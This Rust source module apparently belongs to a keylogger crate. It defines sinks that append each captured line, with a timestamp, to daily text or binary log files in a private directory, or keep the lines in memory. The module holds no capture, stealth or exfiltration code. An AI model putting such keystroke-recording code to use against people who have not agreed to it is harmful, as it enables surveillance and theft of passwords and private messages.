//! Destinations for completed lines.

use crate::binlog;
use crate::error::KeyloggerError;
use crate::interpreter::LogEntry;
use crate::KeyloggerResult;
use chrono::NaiveDate;
use std::fmt;
use std::fs::{DirBuilder, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::DirBuilderExt;
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::sync::{Arc, Mutex};

/// Receives every line the user submits.
pub trait LogSink {
    fn write(&mut self, entry: &LogEntry) -> KeyloggerResult<()>;
}

/// How a [`DailyFileSink`] lays out its entries.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum LogFormat {
    /// One `[HH:MM:SS] text` line per entry.
    #[default]
    Text,
    /// Packed key codes, see [`binlog`].
    Binary,
}

impl FromStr for LogFormat {
    type Err = KeyloggerError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_lowercase().as_str() {
            "text" => Ok(LogFormat::Text),
            "binary" | "bin" => Ok(LogFormat::Binary),
            other => Err(KeyloggerError::InvalidConfig(format!(
                "unknown log format: {other}"
            ))),
        }
    }
}

impl fmt::Display for LogFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LogFormat::Text => f.write_str("text"),
            LogFormat::Binary => f.write_str("binary"),
        }
    }
}

/// Appends entries to one file per day in a log directory.
///
/// The file is chosen by the local date of each entry: `log_DD_MM_YYYY` for text logs and
/// `log_DD_MM_YYYY.bin` for binary logs.
#[derive(Debug)]
pub struct DailyFileSink {
    dir: PathBuf,
    format: LogFormat,
}

impl DailyFileSink {
    /// Create a sink writing to `dir`, creating the directory (mode 0700) if needed.
    pub fn new(dir: impl Into<PathBuf>, format: LogFormat) -> KeyloggerResult<Self> {
        let dir = dir.into();

        DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(&dir)
            .map_err(|source| KeyloggerError::LogWrite {
                path: dir.clone(),
                source,
            })?;

        Ok(Self { dir, format })
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// The file entries submitted on `date` are appended to.
    pub fn path_for(&self, date: NaiveDate) -> PathBuf {
        let name = date.format("log_%d_%m_%Y").to_string();

        match self.format {
            LogFormat::Text => self.dir.join(name),
            LogFormat::Binary => self.dir.join(name + ".bin"),
        }
    }

    fn encode(&self, entry: &LogEntry) -> Vec<u8> {
        match self.format {
            LogFormat::Text => format!(
                "[{}] {}\n",
                entry.timestamp.format("%H:%M:%S"),
                entry.text()
            )
            .into_bytes(),
            LogFormat::Binary => binlog::encode_entry(entry),
        }
    }
}

impl LogSink for DailyFileSink {
    fn write(&mut self, entry: &LogEntry) -> KeyloggerResult<()> {
        let path = self.path_for(entry.timestamp.date_naive());
        let bytes = self.encode(entry);

        let append = |path: &Path| -> io::Result<()> {
            let mut file = OpenOptions::new().create(true).append(true).open(path)?;
            // One write per entry.
            file.write_all(&bytes)
        };

        append(&path).map_err(|source| KeyloggerError::LogWrite { path, source })
    }
}

/// Collects entries in memory. Clones share the same entries.
#[derive(Debug, Clone, Default)]
pub struct MemorySink {
    entries: Arc<Mutex<Vec<LogEntry>>>,
}

impl MemorySink {
    pub fn new() -> Self {
        Self::default()
    }

    /// The entries written so far.
    pub fn entries(&self) -> Vec<LogEntry> {
        self.entries
            .lock()
            .map(|entries| entries.clone())
            .unwrap_or_default()
    }

    /// The text of the entries written so far.
    pub fn lines(&self) -> Vec<String> {
        self.entries().iter().map(LogEntry::text).collect()
    }
}

impl LogSink for MemorySink {
    fn write(&mut self, entry: &LogEntry) -> KeyloggerResult<()> {
        match self.entries.lock() {
            Ok(mut entries) => entries.push(entry.clone()),
            Err(poisoned) => poisoned.into_inner().push(entry.clone()),
        }

        Ok(())
    }
}

impl<S: LogSink + ?Sized> LogSink for Box<S> {
    fn write(&mut self, entry: &LogEntry) -> KeyloggerResult<()> {
        (**self).write(entry)
    }
}
